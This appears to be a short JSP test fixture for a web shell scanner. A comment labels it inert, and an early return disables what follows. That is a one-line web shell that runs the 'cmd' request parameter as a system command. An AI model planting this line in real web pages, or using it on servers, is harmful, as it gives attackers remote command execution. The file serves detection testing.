<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>
